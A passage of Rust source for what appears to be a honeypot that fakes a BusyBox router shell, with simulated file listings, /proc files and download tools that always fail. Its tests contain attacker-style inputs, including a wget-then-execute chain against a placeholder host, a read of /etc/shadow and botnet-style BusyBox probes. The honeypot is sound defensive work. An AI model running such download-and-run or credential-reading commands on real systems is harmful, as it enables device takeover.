                _ => {
                    return Res::fail(
                        format!(
                            "{BUSYBOX_VERSION} multi-call binary.\n\nUsage: uname [-amnrspvio]\n"
                        ),
                        1,
                    );
                }
            }
        }
        if flags.contains('a') {
            flags = "snrvmo".to_string();
        }
        if flags.is_empty() {
            flags.push('s');
        }
        let mut parts = Vec::new();
        for (flag, value) in [
            ('s', "Linux"),
            ('n', self.hostname.as_str()),
            ('r', KERNEL_RELEASE),
            ('v', KERNEL_VERSION),
            ('m', "mips"),
            ('p', "unknown"),
            ('i', "unknown"),
            ('o', "GNU/Linux"),
        ] {
            if flags.contains(flag) {
                parts.push(value);
            }
        }
        Res::ok(format!("{}\n", parts.join(" ")))
    }

    fn id(&self) -> String {
        let group = match self.uid {
            0 => "root",
            1000 => "admin",
            65534 => "nogroup",
            _ => self.user.as_str(),
        };
        format!(
            "uid={u}({}) gid={u}({group}) groups={u}({group})\n",
            self.user,
            u = self.uid
        )
    }

    fn ps(&self) -> String {
        let mut s = String::from("  PID USER       VSZ STAT COMMAND\n");
        let row = |s: &mut String, pid: u32, user: &str, vsz: &str, stat: &str, cmd: &str| {
            let user: String = user.chars().take(8).collect();
            let _ = writeln!(s, "{pid:>5} {user:<8} {vsz:>5} {stat:<4} {cmd}");
        };
        for &(pid, user, vsz, stat, cmd) in PROCESSES {
            row(&mut s, pid, user, vsz, stat, cmd);
        }
        row(&mut s, SHELL_PID, &self.user, "1520", "S", "-sh");
        row(&mut s, SHELL_PID + 29, &self.user, "1516", "R", "ps");
        s
    }

    fn uptime(&self) -> String {
        let now = now();
        let up = BOOT_UPTIME + now.saturating_sub(self.started);
        let (_, _, _, h, m, s, _) = civil(now);
        let days = up / 86_400;
        let hours = up % 86_400 / 3600;
        let mins = up % 3600 / 60;
        format!(
            " {h:02}:{m:02}:{s:02} up {days} day{}, {hours:2}:{mins:02},  load average: 0.08, 0.03, 0.01",
            if days == 1 { "" } else { "s" }
        )
    }

    fn cd(&mut self, args: &[String]) -> Res {
        let target = match args.first().map(String::as_str) {
            None => self.home.clone(),
            Some("-") => self.oldpwd.clone(),
            Some(a) => a.to_string(),
        };
        let path = self.resolve(&target);
        if self.is_dir(&path) {
            self.oldpwd = std::mem::replace(&mut self.cwd, path);
            Res::default()
        } else {
            let why = if self.exists(&path) {
                "Not a directory"
            } else {
                "No such file or directory"
            };
            Res::fail(format!("-sh: cd: can't cd to {target}: {why}\n"), 1)
        }
    }

    fn echo(args: &[String]) -> Res {
        let (mut newline, mut escapes) = (true, false);
        let mut rest = args;
        while let Some((a, tail)) = rest.split_first() {
            let Some(flags) = a
                .strip_prefix('-')
                .filter(|f| !f.is_empty() && f.chars().all(|c| matches!(c, 'n' | 'e' | 'E')))
            else {
                break;
            };
            for f in flags.chars() {
                match f {
                    'n' => newline = false,
                    'e' => escapes = true,
                    _ => escapes = false,
                }
            }
            rest = tail;
        }
        let joined = rest.join(" ");
        let mut out = if escapes {
            let (bytes, stop) = echo_escapes(&joined);
            if stop {
                return Res::ok(bytes);
            }
            bytes
        } else {
            joined.into_bytes()
        };
        if newline {
            out.push(b'\n');
        }
        Res::ok(out)
    }

    fn cat(&self, args: &[String], stdin: Option<Vec<u8>>) -> Res {
        let files: Vec<&String> = args
            .iter()
            .filter(|a| !a.starts_with('-') || a.as_str() == "-")
            .collect();
        if files.is_empty() {
            return Res::ok(stdin.unwrap_or_default());
        }
        let mut res = Res::default();
        for f in files {
            match self.read(&self.resolve(f)) {
                Ok(data) => push_capped(&mut res.out, &data),
                Err("Is a directory") => {
                    push_capped(&mut res.err, b"cat: read error: Is a directory\n");
                    res.status = 1;
                }
                Err(e) => {
                    push_capped(
                        &mut res.err,
                        format!("cat: can't open '{f}': {e}\n").as_bytes(),
                    );
                    res.status = 1;
                }
            }
        }
        res
    }

    /// One `ls -l` line for a path, named as given.
    fn long_entry(&self, path: &str, name: &str) -> String {
        let owner = |uid_is_user: bool| {
            if uid_is_user {
                self.user.chars().take(8).collect()
            } else {
                "root".to_string()
            }
        };
        let (mode, nlink, size, date, link, own) = match self.find(path) {
            Some(Found::Static(mode, node)) => {
                let (size, link) = match node {
                    Node::Dir => (format!("{:>9}", self.children(path).len() * 23 + 3), None),
                    Node::File(s) => (
                        format!(
                            "{:>9}",
                            if path.starts_with("/proc") {
                                0
                            } else {
                                s.len()
                            }
                        ),
                        None,
                    ),
                    Node::Bin(_, n) => (format!("{n:>9}"), None),
                    Node::Link(t) => (format!("{:>9}", t.len()), Some(t.to_string())),
                    Node::Dev(ma, mi) => (format!("{ma:>4}, {mi:>4}"), None),
                };
                let nlink = if matches!(node, Node::Dir) { 2 } else { 1 };
                (
                    mode.to_string(),
                    nlink,
                    size,
                    FIRMWARE_DATE.to_string(),
                    link,
                    owner(false),
                )
            }
            Some(Found::Applet(dir)) => {
                let target = if dir == "/bin" {
                    "busybox"
                } else if dir.starts_with("/usr") {
                    "../../bin/busybox"
                } else {
                    "../bin/busybox"
                };
                (
                    L.to_string(),
                    1,
                    format!("{:>9}", target.len()),
                    FIRMWARE_DATE.to_string(),
                    Some(target.to_string()),
                    owner(false),
                )
            }
            Some(Found::Home) => (
                D.to_string(),
                2,
                format!("{:>9}", 0),
                FIRMWARE_DATE.to_string(),
                None,
                owner(true),
            ),
            Some(Found::Session(SessionEntry::File { data, exec, mtime })) => {
                let mode = if *exec { "-rwxrwxrwx" } else { F };
                (
                    mode.to_string(),
                    1,
                    format!("{:>9}", data.len()),
                    format_date_custom(*mtime, "%b %e %H:%M"),
                    None,
                    owner(true),
                )
            }
            Some(Found::Session(SessionEntry::Dir { mtime })) => (
                D.to_string(),
                2,
                format!("{:>9}", 40),
                format_date_custom(*mtime, "%b %e %H:%M"),
                None,
                owner(true),
            ),
            None => return String::new(),
        };
        let group = if own == "root" {
            "root".to_string()
        } else {
            own.clone()
        };
        let arrow = link.map(|t| format!(" -> {t}")).unwrap_or_default();
        format!("{mode} {nlink:>4} {own:<8} {group:<8} {size} {date} {name}{arrow}\n")
    }

    /// Names laid out in columns down-then-across for an 80-column terminal, like busybox.
    fn columns(names: &[String]) -> String {
        let width = names.iter().map(|n| n.chars().count()).max().unwrap_or(0) + 2;
        let cols = (80 / width).max(1);
        let rows = names.len().div_ceil(cols);
        let mut s = String::new();
        for r in 0..rows {
            let mut line = String::new();
            for c in 0..cols {
                if let Some(n) = names.get(c * rows + r) {
                    let _ = write!(line, "{n:<width$}");
                }
            }
            s.push_str(line.trim_end());
            s.push('\n');
        }
        s
    }

    fn ls(&self, args: &[String]) -> Res {
        let flags: String = args
            .iter()
            .filter(|a| a.starts_with('-'))
            .flat_map(|a| a.chars().skip(1))
            .collect();
        let (long, all, one) = (
            flags.contains('l'),
            flags.contains('a') || flags.contains('A'),
            flags.contains('1'),
        );
        let mut paths: Vec<&str> = args
            .iter()
            .filter(|a| !a.starts_with('-'))
            .map(String::as_str)
            .collect();
        if paths.is_empty() {
            paths.push(".");
        }
        let mut res = Res::default();
        let mut listed = Vec::new();
        let mut singles = Vec::new();
        for p in &paths {
            let full = self.resolve(p);
            if !self.exists(&full) {
                push_capped(
                    &mut res.err,
                    format!("ls: {p}: No such file or directory\n").as_bytes(),
                );
                res.status = 1;
            } else if self.is_dir(&full)
                && !(long && matches!(self.find(&full), Some(Found::Static(_, Node::Link(_)))))
            {
                listed.push((*p, self.follow(&full)));
            } else {
                singles.push((*p, full));
            }
        }
        let mut out = String::new();
        let names_out = |entries: Vec<(String, String)>, out: &mut String| {
            if long {
                for (name, path) in entries {
                    out.push_str(&self.long_entry(&path, &name));
                }
            } else {
                let names: Vec<String> = entries.into_iter().map(|(n, _)| n).collect();
                if one {
                    for n in names {
                        out.push_str(&n);
                        out.push('\n');
                    }
                } else if !names.is_empty() {
                    out.push_str(&Self::columns(&names));
                }
            }
        };
        names_out(
            singles
                .iter()
                .map(|(n, p)| ((*n).to_string(), p.clone()))
                .collect(),
            &mut out,
        );
        let headers = paths.len() > 1;
        for (i, (given, dir)) in listed.iter().enumerate() {
            if headers {
                if i > 0 || !singles.is_empty() {
                    out.push('\n');
                }
                let _ = writeln!(out, "{given}:");
            }
            let mut entries = Vec::new();
            if all {
                entries.push((".".to_string(), dir.clone()));
                entries.push(("..".to_string(), parent(dir).unwrap_or("/").to_string()));
            }
            for name in self.children(dir) {
                if all || !name.starts_with('.') {
                    let path = join(dir, &name);
                    entries.push((name, path));
                }
            }
            names_out(entries, &mut out);
            if out.len() > MAX_OUTPUT {
                break;
            }
        }
        push_capped(&mut res.out, out.as_bytes());
        res
    }

    /// Input for a filter: the named files, else what was piped in (nothing otherwise).
    fn inputs(
        &self,
        tool: &str,
        files: &[&str],
        stdin: Option<Vec<u8>>,
        res: &mut Res,
    ) -> Vec<(String, Vec<u8>)> {
        if files.is_empty() {
            return stdin.map(|d| vec![(String::new(), d)]).unwrap_or_default();
        }
        let mut inputs = Vec::new();
        for f in files {
            match self.read(&self.resolve(f)) {
                Ok(d) => inputs.push(((*f).to_string(), d)),
                Err(e) => {
                    push_capped(&mut res.err, format!("{tool}: {f}: {e}\n").as_bytes());
                    res.status = 1;
                }
            }
        }
        inputs
    }

    fn head_tail(&self, head: bool, args: &[String], stdin: Option<Vec<u8>>) -> Res {
        let (count, bytes, files) = count_and_files(args);
        let mut res = Res::default();
        for (_, data) in self.inputs(if head { "head" } else { "tail" }, &files, stdin, &mut res) {
            if bytes {
                let start = if head {
                    0
                } else {
                    data.len().saturating_sub(count)
                };
                let end = if head {
                    count.min(data.len())
                } else {
                    data.len()
                };
                push_capped(&mut res.out, data.get(start..end).unwrap_or_default());
                continue;
            }
            let lines = lines_of(&data);
            let skip = if head {
                0
            } else {
                lines.len().saturating_sub(count)
            };
            for l in lines.iter().skip(skip).take(count) {
                push_capped(&mut res.out, l);
            }
        }
        res
    }

    fn grep(&self, args: &[String], stdin: Option<Vec<u8>>) -> Res {
        let flags: String = args
            .iter()
            .filter(|a| a.starts_with('-'))
            .flat_map(|a| a.chars().skip(1))
            .collect();
        let mut rest = args
            .iter()
            .filter(|a| !a.starts_with('-'))
            .map(String::as_str);
        let Some(pattern) = rest.next() else {
            return Res::fail(
                format!(
                    "{BUSYBOX_VERSION} multi-call binary.\n\nUsage: grep [-HhnlLoqvsriwFEz] [-m N] [-A/B/C N] PATTERN/-e PATTERN.../-f FILE [FILE]...\n"
                ),
                2,
            );
        };
        let files: Vec<&str> = rest.collect();
        let (ignore, invert, count_only) = (
            flags.contains('i'),
            flags.contains('v'),
            flags.contains('c'),
        );
        let needle = if ignore {
            pattern.to_lowercase()
        } else {
            pattern.to_string()
        };
        let mut res = Res::default();
        let mut matched = 0usize;
        for (_, data) in self.inputs("grep", &files, stdin, &mut res) {
            for l in lines_of(&data) {
                let text = String::from_utf8_lossy(l);
                let hit = if ignore {
                    text.to_lowercase().contains(&needle)
                } else {
                    text.contains(&needle)
                };
                if hit != invert {
                    matched += 1;
                    if !count_only {
                        push_capped(&mut res.out, l);
                        if !l.ends_with(b"\n") {
                            push_capped(&mut res.out, b"\n");
                        }
                    }
                }
            }
        }
        if count_only {
            push_capped(&mut res.out, format!("{matched}\n").as_bytes());
        }
        if res.status == 0 && matched == 0 {
            res.status = 1;
        }
        res
    }

    fn wc(&self, args: &[String], stdin: Option<Vec<u8>>) -> Res {
        let flags: String = args
            .iter()
            .filter(|a| a.starts_with('-'))
            .flat_map(|a| a.chars().skip(1))
            .collect();
        let files: Vec<&str> = args
            .iter()
            .filter(|a| !a.starts_with('-'))
            .map(String::as_str)
            .collect();
        let mut res = Res::default();
        let selected: Vec<char> = if flags.is_empty() {
            vec!['l', 'w', 'c']
        } else {
            ['l', 'w', 'c']
                .into_iter()
                .filter(|c| flags.contains(*c))
                .collect()
        };
        for (name, data) in self.inputs("wc", &files, stdin, &mut res) {
            let mut line = String::new();
            for c in &selected {
                let n = match c {
                    'l' => data.iter().filter(|&&b| b == b'\n').count(),
                    'w' => data
                        .split(|b| b.is_ascii_whitespace())
                        .filter(|w| !w.is_empty())
                        .count(),
                    _ => data.len(),
                };
                if selected.len() == 1 && name.is_empty() {
                    let _ = write!(line, "{n}");
                } else {
                    let _ = write!(line, "{}{n:>7}", if line.is_empty() { "" } else { " " });
                }
            }
            if !name.is_empty() {
                let _ = write!(line, " {name}");
            }
            line.push('\n');
            push_capped(&mut res.out, line.as_bytes());
        }
        res
    }

    /// Positional arguments of a download tool, skipping options that take a value.
    fn positionals<'b>(args: &'b [String], with_value: &[&str]) -> Vec<&'b str> {
        let mut out = Vec::new();
        let mut it = args.iter();
        while let Some(a) = it.next() {
            if with_value.contains(&a.as_str()) {
                it.next();
            } else if !a.starts_with('-') || a == "-" {
                out.push(a.as_str());
            }
        }
        out
    }

    fn wget(&self, args: &[String]) -> Res {
        let pos = Self::positionals(
            args,
            &[
                "-O",
                "-P",
                "-U",
                "-T",
                "-Y",
                "--header",
                "--user-agent",
                "--post-data",
                "-o",
            ],
        );
        let Some(url) = pos.first() else {
            return Res::fail(
                format!(
                    "{BUSYBOX_VERSION} multi-call binary.\n\nUsage: wget [-c|--continue] [-s|--spider] [-q|--quiet] [-O|--output-document FILE]\n\t[--header 'header: value'] [-Y|--proxy on/off] [-P DIR]\n\t[-U|--user-agent AGENT] [-T SEC] URL...\n"
                ),
                1,
            );
        };
        let quiet = args.iter().any(|a| a == "-q" || a == "--quiet");
        let (host, port) = parse_url(url);
        if !is_ipv4(&host) {
            return Res::fail(format!("wget: bad address '{host}'\n"), 1);
        }
        let mut err = String::new();
        if !quiet {
            let shown = url
                .split("://")
                .nth(1)
                .unwrap_or(url)
                .split(['/', '?'])
                .next()
                .unwrap_or(&host);
            let shown = shown.rsplit_once('@').map_or(shown, |(_, h)| h);
            let _ = writeln!(err, "Connecting to {shown} ({host}:{port})");
        }
        let _ = writeln!(
            err,
            "wget: can't connect to remote host ({host}): Connection timed out"
        );
        Res::fail(err, 1)
    }

    fn curl(args: &[String]) -> Res {
        let pos = Self::positionals(
            args,
            &[
                "-o",
                "-A",
                "-H",
                "-d",
                "-X",
                "-u",
                "-e",
                "-m",
                "--connect-timeout",
                "--output",
            ],
        );
        let Some(url) = pos.first() else {
            return Res::fail("curl: try 'curl --help' for more information\n", 2);
        };
        let (host, port) = parse_url(url);
        if is_ipv4(&host) {
            Res::fail(
                format!(
                    "curl: (7) Failed to connect to {host} port {port}: Connection timed out\n"
                ),
                7,
            )
        } else {
            Res::fail(format!("curl: (6) Couldn't resolve host '{host}'\n"), 6)
        }
    }

    fn tftp(args: &[String]) -> Res {
        let pos = Self::positionals(args, &["-l", "-r", "-b"]);
        let Some(host) = pos.first() else {
            return Res::fail(
                format!(
                    "{BUSYBOX_VERSION} multi-call binary.\n\nUsage: tftp [OPTIONS] HOST [PORT]\n\nTransfer a file from/to tftp server\n\n\t-l FILE\tLocal FILE\n\t-r FILE\tRemote FILE\n\t-g\tGet file\n\t-p\tPut file\n\t-b SIZE\tTransfer blocks of SIZE octets\n"
                ),
                1,
            );
        };
        if is_ipv4(host) {
            Res::fail("tftp: timeout\n", 1)
        } else {
            Res::fail(format!("tftp: bad address '{host}'\n"), 1)
        }
    }

    fn ftpget(name: &str, args: &[String]) -> Res {
        let pos = Self::positionals(
            args,
            &["-u", "-p", "-P", "--username", "--password", "--port"],
        );
        let Some(host) = pos.first() else {
            return Res::fail(
                format!(
                    "{BUSYBOX_VERSION} multi-call binary.\n\nUsage: {name} [OPTIONS] HOST [LOCAL_FILE] REMOTE_FILE\n"
                ),
                1,
            );
        };
        if is_ipv4(host) {
            Res::fail(
                format!("{name}: can't connect to remote host ({host}): Connection timed out\n"),
                1,
            )
        } else {
            Res::fail(format!("{name}: bad address '{host}'\n"), 1)
        }
    }

    fn chmod(&mut self, args: &[String]) -> Res {
        let mut pos = args.iter().filter(|a| {
            !a.starts_with('-') || a.len() > 1 && a.chars().skip(1).all(|c| "rwxXst".contains(c))
        });
        let Some(mode) = pos.next() else {
            return Res::fail(
                format!(
                    "{BUSYBOX_VERSION} multi-call binary.\n\nUsage: chmod [-Rcvf] MODE[,MODE]... FILE...\n"
                ),
                1,
            );
        };
        let exec = mode.contains('x') || mode.chars().any(|c| matches!(c, '1' | '3' | '5' | '7'));
        let mut res = Res::default();
        for f in pos {
            let path = self.resolve(f);
            let exists = self.exists(&path);
            match self.files.get_mut(&path) {
                Some(SessionEntry::File { exec: e, .. }) => {
                    *e = exec || (*e && !mode.contains('-'))
                }
                Some(SessionEntry::Dir { .. }) => {}
                None if exists => {}
                None => {
                    push_capped(
                        &mut res.err,
                        format!("chmod: {f}: No such file or directory\n").as_bytes(),
                    );
                    res.status = 1;
                }
            }
        }
        res
    }

    fn rm(&mut self, args: &[String]) -> Res {
        let flags: String = args
            .iter()
            .filter(|a| a.starts_with('-'))
            .flat_map(|a| a.chars().skip(1))
            .collect();
        let (force, recursive) = (
            flags.contains('f'),
            flags.contains('r') || flags.contains('R'),
        );
        let mut res = Res::default();
        for f in args.iter().filter(|a| !a.starts_with('-')) {
            let path = self.resolve(f);
            let err = if !self.exists(&path) {
                (!force).then_some("No such file or directory")
            } else if self.is_dir(&path)
                && !matches!(self.find(&path), Some(Found::Static(_, Node::Link(_))))
                && !recursive
            {
                push_capped(
                    &mut res.err,
                    format!("rm: '{f}' is a directory\n").as_bytes(),
                );
                res.status = 1;
                continue;
            } else if !Self::writable(&path) {
                Some("Read-only file system")
            } else {
                let prefix = format!("{path}/");
                self.files
                    .retain(|p, _| p != &path && !p.starts_with(&prefix));
                None
            };
            if let Some(e) = err {
                push_capped(
                    &mut res.err,
                    format!("rm: can't remove '{f}': {e}\n").as_bytes(),
                );
                res.status = 1;
            }
        }
        res
    }

    fn mkdir(&mut self, args: &[String]) -> Res {
        let parents = args.iter().any(|a| a.starts_with('-') && a.contains('p'));
        let mut res = Res::default();
        for f in args.iter().filter(|a| !a.starts_with('-')) {
            let path = self.resolve(f);
            let mut todo = vec![path.clone()];
            if parents {
                let mut p = parent(&path);
                while let Some(dir) = p.filter(|d| !self.exists(d)) {
                    todo.push(dir.to_string());
                    p = parent(dir);
                }
            }
            for dir in todo.into_iter().rev() {
                let err = if self.exists(&dir) {
                    (!parents).then_some("File exists")
                } else if !parent(&dir).is_some_and(|p| self.is_dir(p)) {
                    Some("No such file or directory")
                } else if !Self::writable(&dir) {
                    Some("Read-only file system")
                } else if self.files.len() >= MAX_FILES {
                    Some("No space left on device")
                } else {
                    self.files
                        .insert(dir.clone(), SessionEntry::Dir { mtime: now() });
                    None
                };
                if let Some(e) = err {
                    push_capped(
                        &mut res.err,
                        format!("mkdir: can't create directory '{f}': {e}\n").as_bytes(),
                    );
                    res.status = 1;
                    break;
                }
            }
        }
        res
    }

    fn touch(&mut self, args: &[String]) -> Res {
        let mut res = Res::default();
        for f in args.iter().filter(|a| !a.starts_with('-')) {
            let path = self.resolve(f);
            if self.exists(&path) {
                continue;
            }
            if let Err(e) = self.write(&path, b"", true) {
                push_capped(&mut res.err, format!("touch: {f}: {e}\n").as_bytes());
                res.status = 1;
            }
        }
        res
    }

    fn cp_mv(&mut self, mv: bool, args: &[String]) -> Res {
        let tool = if mv { "mv" } else { "cp" };
        let pos: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
        let Some((dest, sources)) = pos.split_last().filter(|(_, s)| !s.is_empty()) else {
            return Res::fail(
                format!(
                    "{BUSYBOX_VERSION} multi-call binary.\n\nUsage: {tool} [OPTIONS] SOURCE... DEST\n"
                ),
                1,
            );
        };
        let dest_path = self.resolve(dest);
        let dest_is_dir = self.is_dir(&dest_path);
        let mut res = Res::default();
        for src in sources {
            let src_path = self.resolve(src);
            let data = match self.read(&src_path) {
                Ok(d) => d,
                Err(e) => {
                    let msg = if e == "Is a directory" {
                        format!("{tool}: omitting directory '{src}'\n")
                    } else {
                        format!("{tool}: can't stat '{src}': {e}\n")
                    };
                    push_capped(&mut res.err, msg.as_bytes());
                    res.status = 1;
                    continue;
                }
            };
            let exec = match self.find(&self.follow(&src_path)) {
                Some(Found::Session(SessionEntry::File { exec, .. })) => *exec,
                Some(Found::Static(mode, _)) => mode.contains('x'),
                _ => false,
            };
            let target = if dest_is_dir {
                join(&dest_path, basename(&src_path))
            } else {
                dest_path.clone()
            };
            match self.write(&target, &data, false) {
                Ok(()) => {
                    if let Some(SessionEntry::File { exec: e, .. }) = self.files.get_mut(&target) {
                        *e = exec;
                    }
                    if mv && target != src_path && Self::writable(&src_path) {
                        self.files.remove(&src_path);
                    }
                }
                Err(e) => {
                    push_capped(
                        &mut res.err,
                        format!("{tool}: can't create '{dest}': {e}\n").as_bytes(),
                    );
                    res.status = 1;
                }
            }
        }
        res
    }
}

#[cfg(test)]
#[allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::expect_used,
    clippy::panic
)]
mod tests {
    use super::*;

    fn run(sh: &mut Shell, line: &str) -> String {
        String::from_utf8_lossy(&sh.run_line(line).text).into_owned()
    }

    fn root() -> Shell {
        Shell::new("root")
    }

    #[test]
    fn split_basic_operators() {
        assert_eq!(
            split_commands("a; b && c || d | e"),
            ["a", "b", "c", "d", "e"]
        );
        assert_eq!(
            split_commands("cd /tmp && wget http://x/y -O y; sh y"),
            ["cd /tmp", "wget http://x/y -O y", "sh y"]
        );
        assert_eq!(
            split_commands("cat /proc/cpuinfo | head -3"),
            ["cat /proc/cpuinfo", "head -3"]
        );
        assert_eq!(split_commands("a\nb\n"), ["a", "b"]);
    }

    #[test]
    fn split_respects_quotes_and_escapes() {
        assert_eq!(
            split_commands("echo 'a;b' ; echo \"c && d\""),
            ["echo 'a;b'", "echo \"c && d\""]
        );
        assert_eq!(split_commands(r"echo a\;b; c"), [r"echo a\;b", "c"]);
        assert_eq!(
            split_commands(r#"echo "a\"|b" | c"#),
            [r#"echo "a\"|b""#, "c"]
        );
        assert_eq!(split_commands("ls 2>&1 & echo x"), ["ls 2>&1 & echo x"]);
    }

    #[test]
    fn split_drops_empty_parts() {
        assert_eq!(split_commands(";; a ;  ; b;"), ["a", "b"]);
        assert!(split_commands("   ").is_empty());
        assert!(split_commands("").is_empty());
        assert_eq!(
            split_commands("echo 'unterminated ; x"),
            ["echo 'unterminated ; x"]
        );
    }

    #[test]
    fn split_bytes_keeps_exact_bytes_and_matches_split_on_text() {
        assert_eq!(
            split_command_bytes(b"echo \xe9\xff; id\x1b[A && ls"),
            [&b"echo \xe9\xff"[..], b"id\x1b[A", b"ls"]
        );
        // A backslash escapes one byte: here the first byte of a UTF-8 character.
        assert_eq!(
            split_command_bytes("echo \\\u{e9}; x".as_bytes()),
            ["echo \\\u{e9}".as_bytes(), b"x"]
        );
        for line in [
            "a; b && c || d | e",
            "echo 'a;b' ; echo \"c && d\"",
            r#"echo "a\"|b" | c"#,
            "  caf\u{e9} ;\u{65e5}\u{672c} | x\t",
            ";; a ;  ; b;",
        ] {
            let bytes: Vec<String> = split_command_bytes(line.as_bytes())
                .into_iter()
                .map(|c| String::from_utf8(c.to_vec()).unwrap())
                .collect();
            assert_eq!(bytes, split_commands(line), "{line:?}");
        }
        let mut sh = root();
        let out = sh.run_input(b"echo caf\xe9; id");
        assert_eq!(out.commands, [&b"echo caf\xe9"[..], b"id"]);
        assert!(String::from_utf8_lossy(&out.text).starts_with("caf\u{fffd}\r\n"));
    }

    #[test]
    fn split_is_bounded() {
        let line = "a;".repeat(10_000);
        assert_eq!(split_commands(&line).len(), MAX_COMMANDS);
    }

    #[test]
    fn prompt_follows_cwd_and_user() {
        let mut sh = root();
        assert_eq!(sh.prompt(), "~ # ");
        run(&mut sh, "cd /tmp");
        assert_eq!(sh.prompt(), "/tmp # ");
        run(&mut sh, "cd /");
        assert_eq!(sh.prompt(), "/ # ");
        let user = Shell::new("admin");
        assert_eq!(user.prompt(), "~ $ ");
    }

    #[test]
    fn cd_pwd_ls_interplay() {
        let mut sh = root();
        assert_eq!(run(&mut sh, "pwd"), "/root\r\n");
        run(&mut sh, "cd /etc/init.d");
        assert_eq!(run(&mut sh, "pwd"), "/etc/init.d\r\n");
        assert_eq!(run(&mut sh, "ls"), "rcS\r\n");
        run(&mut sh, "cd ../..");
        assert_eq!(run(&mut sh, "pwd"), "/\r\n");
        run(&mut sh, "cd ~");
        assert_eq!(run(&mut sh, "pwd"), "/root\r\n");
        run(&mut sh, "cd /usr/bin; cd -");
        assert_eq!(run(&mut sh, "pwd"), "/root\r\n");
        assert_eq!(
            run(&mut sh, "cd /nope"),
            "-sh: cd: can't cd to /nope: No such file or directory\r\n"
        );
        assert_eq!(
            run(&mut sh, "cd /etc/passwd"),
            "-sh: cd: can't cd to /etc/passwd: Not a directory\r\n"
        );
        assert_eq!(run(&mut sh, "pwd"), "/root\r\n");
    }

    #[test]
    fn ls_variants() {
        let mut sh = root();
        let top = run(&mut sh, "ls /");
        for d in ["bin", "etc", "proc", "tmp", "usr", "var"] {
            assert!(top.contains(d), "{top}");
        }
        let long = run(&mut sh, "ls -l /bin");
        assert!(
            long.contains("-rwxr-xr-x    1 root     root        895268 Mar  9  2017 busybox\r\n"),
            "{long}"
        );
        assert!(long.contains(
            "lrwxrwxrwx    1 root     root             7 Mar  9  2017 cat -> busybox\r\n"
        ));
        let la = run(&mut sh, "ls -la /tmp");
        assert!(la.contains(" .\r\n") && la.contains(" ..\r\n"));
        assert_eq!(run(&mut sh, "ls /etc/passwd"), "/etc/passwd\r\n");
        assert_eq!(
            run(&mut sh, "ls /zz"),
            "ls: /zz: No such file or directory\r\n"
        );
        assert!(
            run(&mut sh, "ls -l /dev/null")
                .starts_with("crw-rw-rw-    1 root     root        1,    3 ")
        );
    }

    #[test]
    fn uname_variants() {
        let mut sh = root();
        assert_eq!(
            run(&mut sh, "uname -a"),
            "Linux router 3.10.14 #1 SMP PREEMPT Thu Mar 9 11:02:13 CST 2017 mips GNU/Linux\r\n"
        );
        assert_eq!(run(&mut sh, "uname"), "Linux\r\n");
        assert_eq!(run(&mut sh, "uname -m"), "mips\r\n");
        assert_eq!(run(&mut sh, "uname -r"), "3.10.14\r\n");
        assert_eq!(run(&mut sh, "uname -s"), "Linux\r\n");
        assert_eq!(run(&mut sh, "uname -n"), "router\r\n");
        assert_eq!(
            run(&mut sh, "uname -v"),
            "#1 SMP PREEMPT Thu Mar 9 11:02:13 CST 2017\r\n"
        );
        assert_eq!(run(&mut sh, "uname -sm"), "Linux mips\r\n");
    }

    #[test]
    fn cat_fake_files() {
        let mut sh = root();
        let cpu = run(&mut sh, "cat /proc/cpuinfo");
        assert!(cpu.starts_with("system type\t\t: MT7621\r\n"));
        assert!(cpu.contains("cpu model\t\t: MIPS 1004Kc V2.15"));
        assert!(run(&mut sh, "cat /proc/meminfo").starts_with("MemTotal:         126072 kB\r\n"));
        assert!(run(&mut sh, "cat /etc/passwd").starts_with("root:x:0:0:root:/root:/bin/sh\r\n"));
        assert!(run(&mut sh, "cat /etc/shadow").contains("root:$1$"));
        assert!(run(&mut sh, "cat /proc/mounts").contains("squashfs"));
        assert!(run(&mut sh, "cat /proc/version").starts_with("Linux version 3.10.14"));
        assert_eq!(
            run(&mut sh, "cat /nope"),
            "cat: can't open '/nope': No such file or directory\r\n"
        );
        assert_eq!(
            run(&mut sh, "cat /etc"),
            "cat: read error: Is a directory\r\n"
        );
        let elf = sh.run_line("cat /bin/echo").text;
        assert!(elf.starts_with(b"\x7fELF\x01\x01"));
        assert_eq!(elf.get(18), Some(&8)); // e_machine = EM_MIPS
    }

    #[test]
    fn echo_and_redirection() {
        let mut sh = root();
        assert_eq!(run(&mut sh, "echo hello   world"), "hello world\r\n");
        assert_eq!(run(&mut sh, "echo 'a  b' \"c  d\""), "a  b c  d\r\n");
        assert_eq!(run(&mut sh, "echo -n hi"), "hi");
        assert_eq!(run(&mut sh, "echo -e 'a\\tb\\x41\\0102'"), "a\tbAB\r\n");
        assert_eq!(run(&mut sh, "echo -ne '\\x41\\x4b\\x34\\x37'"), "AK47");
        assert_eq!(run(&mut sh, "echo $HOME $USER"), "/root root\r\n");
        assert_eq!(
            run(&mut sh, "cd /tmp; echo one > f; echo two >> f; cat f"),
            "one\r\ntwo\r\n"
        );
        assert_eq!(run(&mut sh, "cat /tmp/f"), "one\r\ntwo\r\n");
        assert_eq!(run(&mut sh, "echo three>f; cat f"), "three\r\n");
        assert_eq!(
            run(&mut sh, "echo x > /etc/x"),
            "-sh: can't create /etc/x: Read-only file system\r\n"
        );
        assert_eq!(
            run(&mut sh, "echo x > /nope/x"),
            "-sh: can't create /nope/x: nonexistent directory\r\n"
        );
        assert_eq!(run(&mut sh, "echo gone >/dev/null"), "");
        assert_eq!(run(&mut sh, "cat /nope 2>/dev/null"), "");
        assert_eq!(run(&mut sh, "cat /nope >/dev/null 2>&1"), "");
        assert_eq!(run(&mut sh, "cat /nope 2>&1 | wc -l"), "1\r\n");
        let bin = sh
            .run_line("echo -ne '\\x7f\\x45\\xff' > /tmp/b; cat /tmp/b")
            .text;
        assert_eq!(bin, b"\x7fE\xff");
    }

    #[test]
    fn session_files_are_bounded() {
        let mut sh = root();
        let big = "x".repeat(3000);
        run(
            &mut sh,
            &format!("echo {big} > /tmp/a; echo {big} >> /tmp/a"),
        );
        assert_eq!(sh.read("/tmp/a").unwrap().len(), MAX_FILE_SIZE);
        for i in 0..100 {
            run(&mut sh, &format!("touch /tmp/f{i}"));
        }
        assert_eq!(sh.files.len(), MAX_FILES);
        assert_eq!(
            run(&mut sh, "touch /tmp/more"),
            "touch: /tmp/more: No space left on device\r\n"
        );
    }

    #[test]
    fn busybox_applets() {
        let mut sh = root();
        assert_eq!(
            run(&mut sh, "/bin/busybox ECCHI"),
            "ECCHI: applet not found\r\n"
        );
